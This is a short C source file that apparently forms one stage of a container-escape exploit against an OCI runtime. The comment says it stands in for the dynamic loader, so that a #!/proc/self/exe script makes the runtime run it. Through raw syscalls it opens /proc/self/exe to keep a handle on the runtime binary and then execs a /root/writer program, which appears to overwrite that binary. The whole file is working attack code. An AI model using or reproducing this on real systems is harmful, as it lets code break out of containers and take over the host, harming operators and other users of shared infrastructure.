/* Stands in for the dynamic loader: whoever has the OCI runtime's own program executed inside, by a script that
   begins with #!/proc/self/exe, is run in its process. Keeps that program open and goes on as /root/writer. */

static long call(long number, const void *one, const void *two, const void *three)
{
	long answer;
	__asm__ volatile("syscall"
			 : "=a"(answer)
			 : "a"(number), "D"(one), "S"(two), "d"(three)
			 : "rcx", "r11", "memory");
	return answer;
}

enum { OPEN = 2, EXECVE = 59, EXIT = 60 };

void _start(void)
{
	const char *const words[] = {"writer", 0}, *const none[] = {0};
	call(OPEN, "/proc/self/exe", 0, 0);
	call(EXECVE, "/root/writer", words, none);
	call(EXIT, (void *)99, 0, 0);
}
